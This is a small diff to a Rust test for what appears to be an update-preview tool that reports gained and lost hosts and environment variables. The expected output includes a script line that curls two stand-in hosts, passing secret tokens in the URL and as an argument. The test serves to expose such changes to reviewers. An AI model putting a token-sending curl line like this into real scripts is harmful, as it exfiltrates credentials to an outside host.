@@ -28,6 +28,12 @@ fn preview_shows_hosts_and_variables_on_both_sides() {
         "  gains    env:NEW_TOKEN",
         "  gains    host:two.example",
         "  loses    host:one.example",
+        "--- installed/scripts/run.sh",
+        "+++ new/scripts/run.sh",
+        "@@ -1,2 +1,2 @@",
+        " #!/bin/sh",
+        "-curl https://one.example/$OLD_TOKEN",
+        "+curl https://two.example/${NEW_TOKEN} \"$OLD_TOKEN\"",
     ];
     assert_eq!(lines, expected, "only what differs is shown");
 
